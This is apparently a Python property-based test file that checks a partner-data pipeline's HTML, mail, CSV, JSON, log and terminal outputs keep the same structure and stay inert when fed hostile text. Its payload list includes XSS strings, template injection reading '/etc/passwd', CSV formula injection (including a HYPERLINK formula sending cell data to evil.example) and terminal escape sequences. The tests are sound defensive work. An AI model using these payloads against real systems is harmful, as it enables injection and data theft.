"""Whatever a partner writes, and wherever: pages, tables, documents, log lines and terminals show it and never obey it."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from contextlib import redirect_stderr
from dataclasses import replace
from html.parser import HTMLParser
from typing import TYPE_CHECKING

from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.commands import queue as queue_command
from pipeline.commands import read as read_command
from pipeline.commands import requests as requests_command
from pipeline.commands.mail import mail_line, rest_line
from pipeline.domain.address import Address
from pipeline.domain.bundle import FolderName, RequestState, shown
from pipeline.domain.document import Unreadable, UnreadableReason
from pipeline.domain.finding import Where
from pipeline.domain.mail import RelayRest
from pipeline.domain.numbers import NO_NUMBER
from pipeline.domain.policy import Policy
from pipeline.inbox import Sighting
from pipeline.ledger_requests import SubmittedRequest
from pipeline.logs import log, log_to_stderr
from pipeline.outbox import safe_name
from pipeline.reading.number_list import read_number_list
from pipeline.reports import portability_rows
from pipeline.reports.html import report_html
from pipeline.reports.machine import check_document, report_json
from pipeline.reports.mail_text import mail_text
from pipeline.reports.portability import portability
from pipeline.reports.submission import numbers_csv as submitted_csv
from pipeline.reports.tables import FORMULA, TELEPHONE_NUMBER, fix_me_csv, numbers_csv
from pipeline.reports.terminal import check_lines
from tests.builders import AS_OF, a_bill, a_billing, a_contact, a_drop, a_file, a_list_of, a_request
from tests.builders_mail import a_mail_row
from tests.builders_reports import a_finding, a_judgement, a_number_finding, a_receipt

if TYPE_CHECKING:
    from pipeline.reports.publication import Receipt

PIECES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' style='x:expression(alert(1))",
    "</textarea></style></title><!--",
    "-->",
    "javascript:alert(1)",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "&lt;b&gt;",
    "]]>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\uff1d1+1",
    '","',
    "\r\n",
    "\n",
    "\r",
    "\x00",
    "\x1b[2J",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\",
    "\x9b31m",
    "\u202e",
    "\u2028",
    "\u200b",
    "\ufeff",
    "[bold red]",
    "[link=http://evil.example]",
    '", "decision": "accepted", "x": "',
    "\\u0022",
)
HOSTILE = st.lists(st.one_of(st.sampled_from(PIECES), st.text(st.characters(codec="utf-8"), max_size=20)), min_size=1, max_size=4).map(
    "".join
)
PLAIN = "Halyard"
OF_ATTRIBUTES = ("class", "href", "id", "name", "rel", "src", "style", "type")


class _Shape(HTMLParser):
    """The elements of a page with their attributes, and the values of those that a browser acts on."""

    def __init__(self) -> None:
        super().__init__()
        self.shape: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, [name for name, _ in attrs], [value for name, value in attrs if name in OF_ATTRIBUTES]))

    def handle_endtag(self, tag: str) -> None:
        self.shape.append(tag)

    def handle_comment(self, data: str) -> None:
        self.shape.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.shape.append(("declaration", decl))

    def handle_pi(self, data: str) -> None:
        self.shape.append(("instruction", data))


def shape_of(page: str) -> list[object]:
    parser = _Shape()
    parser.feed(page)
    parser.close()
    return parser.shape


def a_hostile_receipt(text: str) -> Receipt:
    """The receipt of a bundle in which the partner wrote `text` wherever it can."""
    name = shown(text.encode()) or PLAIN
    numbers = a_list_of([text, text, "+14108430142"], [NO_NUMBER, NO_NUMBER, 4108430142], number_name=[text] * 3, notes=[text] * 3)
    finding = a_finding(where=Where(file=name, field=text), found=text, expected=text, hint=text)
    judgement = a_judgement(finding, by_number=[a_number_finding([0, 1], 3, hint=[text, text, text])], numbers=numbers)
    address = Address(text, text, text, "MD", text, "US")
    request = a_request(
        file=name,
        friendly_name=text,
        partner_reference=text,
        user=a_contact(company_name=text, contact_name=text),
        billing=a_billing(customer_name=text, address=address),
    )
    return a_receipt(judgement, replace(a_drop(a_file(name)), partner=name, bundle=name), request)


PLAIN_PAGE = shape_of(report_html(a_hostile_receipt(PLAIN)).decode())


@settings(max_examples=60, deadline=None)
@given(HOSTILE)
def test_a_page_has_the_same_elements_whatever_a_partner_wrote(text: str) -> None:
    page = report_html(a_hostile_receipt(f"{PLAIN}{text}")).decode()
    assert shape_of(page) == PLAIN_PAGE
    assert not set(page) & set("\x00\x07\x1b\x9b\u202e\u2028\u200b")


@settings(max_examples=60, deadline=None)
@given(HOSTILE)
def test_a_mail_has_the_same_elements_whatever_a_partner_wrote(text: str) -> None:
    hostile, plain = (a_hostile_receipt(PLAIN + words) for words in (text, ""))
    if hostile.request is None or plain.request is None:
        message = "a receipt for a mail has a request"
        raise AssertionError(message)
    said, usual = mail_text(hostile, hostile.request, ["numbers.csv"]), mail_text(plain, plain.request, ["numbers.csv"])
    assert shape_of(said.html) == shape_of(usual.html)
    assert said.text.count("\n") == usual.text.count("\n")
    assert all(line.isprintable() for line in said.text.splitlines() if line)
    assert said.subject.isprintable()


def _no_cell_is_calculated(content: bytes, columns: int) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline=""), strict=True))
    assert {len(row) for row in rows} == {columns}
    for cell in (cell for row in rows for cell in row):
        assert not re.match(FORMULA, cell) or cell.startswith("'") or re.match(TELEPHONE_NUMBER, cell), cell
        assert not cell.lstrip().startswith(("=", "@")), cell
        assert not set(cell) & set("\x00\x07\x1b\x9b\u202e\u2028\u200b"), cell
    return rows


@settings(max_examples=60, deadline=None)
@given(HOSTILE)
def test_no_table_has_a_cell_that_is_calculated_and_a_number_stays_byte_for_byte(text: str) -> None:
    receipt, plain = a_hostile_receipt(text), a_hostile_receipt(PLAIN)
    judgement = receipt.judgement
    for table in (numbers_csv, fix_me_csv):
        width = len(next(csv.reader(io.StringIO(table(plain).decode()))))
        _no_cell_is_calculated(table(receipt), width)
    assert b'"+14108430142"' in numbers_csv(receipt)
    if judgement.numbers is not None and judgement.rejected is not None:
        sent = submitted_csv(judgement.numbers, judgement.rejected)
        width = len(next(csv.reader(io.StringIO(sent.decode()))))
        assert "+14108430142" in [cell for row in _no_cell_is_calculated(sent, width) for cell in row]


@settings(max_examples=40, deadline=None)
@given(HOSTILE, st.sampled_from(["numbers.csv", "numbers.txt"]))
def test_the_table_of_a_list_alone_is_as_harmless(text: str, name: str) -> None:
    cell = '"' + text.replace('"', '""') + '"' if name.endswith("csv") else text
    reading = read_number_list(name, f"phone_number\r\n{cell}\r\n+14108430142\r\n".encode(), Policy())
    said = [] if reading.numbers is None else list(portability_rows.pieces(portability(reading.numbers, Policy())))
    for batch in said:
        for row in batch.to_pylist():
            for value in row.values():
                assert (
                    not isinstance(value, str) or not re.match(FORMULA, value) or value.startswith("'") or re.match(TELEPHONE_NUMBER, value)
                )
    result = None if reading.numbers is None else portability(reading.numbers, Policy())
    assert all(line.isprintable() for line in portability_rows.lines(result, reading.faults))
    assert json.dumps(portability_rows.as_json(result, reading.faults)).isascii()


@settings(max_examples=60, deadline=None)
@given(HOSTILE)
def test_a_document_for_machines_has_the_same_keys_whatever_a_partner_wrote(text: str) -> None:
    receipt = a_hostile_receipt(text)
    content = report_json(receipt)
    assert content.isascii()
    assert set(content) & set(range(32)) == {10}
    document = json.loads(content)
    assert document.keys() == json.loads(report_json(a_hostile_receipt(PLAIN))).keys()
    assert document["findings"][0]["found"] == text
    assert document["decision"] == receipt.decision.value
    assert json.dumps(check_document(receipt.drop, receipt.decision, receipt.judgement)).isascii()


@settings(max_examples=60, deadline=None)
@given(HOSTILE)
def test_a_log_line_is_one_line_of_plain_characters(text: str) -> None:
    stderr = io.StringIO()
    with redirect_stderr(stderr):
        log_to_stderr()
        log().warning("claimed", partner=text, bundle=text.encode(), reason=FolderName(text.encode(), text.encode()))
    line = stderr.getvalue()
    assert (line.count("\n"), line.isascii(), line.strip().isprintable()) == (1, True, True)
    assert json.loads(line)["partner"] == text
    assert json.loads(line)["event"] == "claimed"


@settings(max_examples=60, deadline=None)
@given(HOSTILE)
def test_a_terminal_gets_no_character_that_it_obeys(text: str) -> None:
    receipt, name = a_hostile_receipt(text), FolderName(text.encode(), text.encode())
    row = a_mail_row()
    request = SubmittedRequest("01JCV0QK5M8T3XW7RB2N4PHD6E", text, text, text, text, text, 3, RequestState.ACTIVE, AS_OF, AS_OF)
    lines = [line.text for line in check_lines(receipt.decision, receipt.judgement)]
    lines += [mail_line(replace(row, detail=text)), rest_line(RelayRest(text, 1, AS_OF, text, AS_OF)), requests_command._line(request)]  # noqa: SLF001 - what it prints
    lines += queue_command._lines(queue_command._Queue(inbox=(Sighting(name, 1, 2, True, False, (text,)),)))  # noqa: SLF001, FBT003 - as above
    assert [line for line in lines if not line.removesuffix("\n").isprintable()] == []


@settings(max_examples=30, deadline=None)
@given(HOSTILE.filter(lambda text: "\0" not in text and "/" not in text))
def test_what_a_paper_states_is_shown_and_never_obeyed(text: str) -> None:
    from pathlib import Path

    file = Path(f"{text}.pdf")
    bill = a_bill()
    name = replace(bill.billing_name, value=text) if bill.billing_name else None
    stdout = io.StringIO()
    before, sys.stdout = sys.stdout, stdout
    try:
        read_command._show(replace(bill, billing_name=name), file)  # noqa: SLF001 - what it prints
        read_command._show(Unreadable(UnreadableReason.UNREADABLE, text), file)  # noqa: SLF001 - as above
    finally:
        sys.stdout = before
    assert [line for line in stdout.getvalue().split("\n") if not line.isprintable()] == []


@settings(max_examples=200, deadline=None)
@given(st.one_of(HOSTILE.map(str.encode), st.binary(min_size=1, max_size=255)), st.binary(min_size=1, max_size=20))
def test_the_folder_of_a_report_has_a_plain_name_that_no_other_bundle_gets(name: bytes, other: bytes) -> None:
    plain = safe_name(name)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9 ._-]*", plain)
    assert len(plain) <= 64
    assert name == other or plain != safe_name(other)
